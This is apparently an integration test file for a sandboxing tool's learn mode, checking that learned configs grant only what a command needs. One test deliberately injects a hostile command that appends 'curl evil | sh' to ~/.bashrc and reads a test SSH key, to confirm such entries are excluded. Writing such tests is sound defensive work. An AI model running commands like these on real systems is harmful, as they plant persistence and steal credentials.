package integration

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/corralhq/corral"
	"github.com/corralhq/corral/internal/sandboxtest"
)

// learnScript is what the learned command does: fill a cache in the home,
// fetch from two names through the proxy, make a unix socket and write its
// workspace.
const learnScript = `mkdir -p "$HOME/.cache/learntool/objs" && for i in 1 2 3 4 5 6; do echo $i > "$HOME/.cache/learntool/objs/$i"; done
curl -sS --max-time 20 "http://allowed.test:$PORT/"
curl -sS --max-time 20 "http://other.test:$PORT/"
(cd "$HOME/.cache/learntool" && curl -sS --max-time 5 --unix-socket sock http://x/ 2>&1)
echo built > "$WS/out"
`

// A learning run of a command that writes a cache outside the workspace,
// reaches two names and needs a unix socket learns exactly those; the
// command run with the learned config meets no refusal; nothing of the
// learning run lands on the host; an entry that would lift a protection
// (a start-up file written, a credential store read) is left out, with
// the reason.
func TestLearnWritesNamesAndSocket(t *testing.T) {
	requireTool(t, "curl")
	s := newEgressScene(t)
	home := realDir(t)
	t.Setenv("HOME", home)
	require.NoError(t, os.Mkdir(filepath.Join(home, ".ssh"), 0o700))
	require.NoError(t, os.WriteFile(filepath.Join(home, ".ssh", "id_test"), []byte("key"), 0o600))
	cfg := corral.Config{Workspace: s.ws, Network: corral.NetworkAllow}
	sandboxtest.Require(t, cfg)
	env := []string{"HOME=" + home, "WS=" + s.ws, "PORT=" + fmt.Sprint(s.http), "PATH=/usr/bin:/bin"}
	extra := `echo 'curl evil | sh' >> "$HOME/.bashrc"; cat "$HOME/.ssh/id_test"; true`

	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	l, err := corral.LearnCommand(ctx, cfg, "sh", "-c", learnScript+extra)
	require.NoError(t, err)
	l.Env = env
	var out strings.Builder
	l.Stdout, l.Stderr = &out, &out
	require.NoError(t, l.Run(), "%s", out.String())
	learned, err := l.Learned()
	require.NoError(t, err)
	assert.Contains(t, out.String(), "hello from allowed.test", "the learning run reaches the names")
	assert.Contains(t, out.String(), "hello from other.test")

	active := map[string][]string{}
	var left []corral.LearnedEntry
	for _, e := range learned.Entries {
		if e.Weakens != "" {
			left = append(left, e)
			continue
		}
		active[e.Key] = append(active[e.Key], e.Value)
		assert.NotEmpty(t, e.Why, "%s %s says why", e.Key, e.Value)
	}
	cache := filepath.Join(home, ".cache", "learntool")
	assert.Equal(t, map[string][]string{
		"writable_paths":     {fmt.Sprintf("%q", cache)},
		"allowed_domains":    {fmt.Sprintf(`"allowed.test:%d"`, s.http), fmt.Sprintf(`"other.test:%d"`, s.http)},
		"allowed_ips":        {`"` + egressAddr + `"`},
		"allow_unix_sockets": {"true"},
		"network":            {`"allow"`},
	}, active, "exactly what the command needed: %+v", learned.Entries)
	keys := func(es []corral.LearnedEntry) []string {
		var ks []string
		for _, e := range es {
			ks = append(ks, e.Key+"="+e.Value)
		}
		return ks
	}
	assert.ElementsMatch(t, []string{
		fmt.Sprintf("writable_paths=%q", filepath.Join(home, ".bashrc")),
		fmt.Sprintf("reveal=%q", filepath.Join(home, ".ssh")),
	}, keys(left), "what would lift a protection is left out")
	toml := string(learned.TOML("learned"))
	assert.Contains(t, toml, fmt.Sprintf("  # %q, # learned, left out: a protected name", filepath.Join(home, ".bashrc")), toml)
	assert.Contains(t, toml, "Warning: opens "+egressAddr, toml)

	// Nothing of the learning run landed.
	for _, p := range []string{cache, filepath.Join(home, ".bashrc"), filepath.Join(s.ws, "out")} {
		assert.NoFileExists(t, p, "the learning run left nothing on the host")
	}
	assert.NoDirExists(t, cache)

	// Run with the learned config: no refusal. The cache directory is
	// made first, as its entry's warning says.
	require.NoError(t, os.MkdirAll(cache, 0o755))
	sb, err := corral.New(withReport(learned.Config))
	require.NoError(t, err)
	defer sb.Close()
	c := sb.Command(ctx, "sh", "-c", learnScript)
	c.Env = env
	out.Reset()
	c.Stdout, c.Stderr = &out, &out
	require.NoError(t, c.Run(), "%s", out.String())
	assert.Empty(t, refusals(c.Report()), "the learned config lets it run: %s", out.String())
	assert.FileExists(t, filepath.Join(s.ws, "out"))

	// Control: the same command under the config learned from is refused.
	sb2, err := corral.New(withReport(cfg))
	require.NoError(t, err)
	defer sb2.Close()
	c = sb2.Command(ctx, "sh", "-c", learnScript)
	c.Env = env
	c.Run()
	assert.NotEmpty(t, refusals(c.Report()), "without what was learned the command is refused")
}

func withReport(c corral.Config) corral.Config { c.Report = true; return c }

// refusals are vs without the C library's own probes.
func refusals(vs []corral.Violation) []corral.Violation {
	return slices.DeleteFunc(slices.Clone(vs), func(v corral.Violation) bool { return v.Probe })
}

// A limit the command hit is learned raised, with why.
func TestLearnLimitHit(t *testing.T) {
	cfg := corral.Config{Workspace: realDir(t), Limits: corral.Limits{CPUTime: time.Second}}
	sandboxtest.Require(t, cfg)
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()
	learned, err := corral.Learn(ctx, cfg, "sh", "-c", `while :; do :; done`)
	require.NoError(t, err)
	require.Error(t, learned.Err, "the limit stopped the command")
	var got []corral.LearnedEntry
	for _, e := range learned.Entries {
		if strings.HasPrefix(e.Key, "limits.") {
			got = append(got, e)
		}
	}
	require.Len(t, got, 1, "%+v", learned.Entries)
	assert.Equal(t, "limits.cpu_time", got[0].Key)
	assert.Equal(t, `"2s"`, got[0].Value)
	assert.Contains(t, got[0].Why, "hit --cpu-time 1s")
}
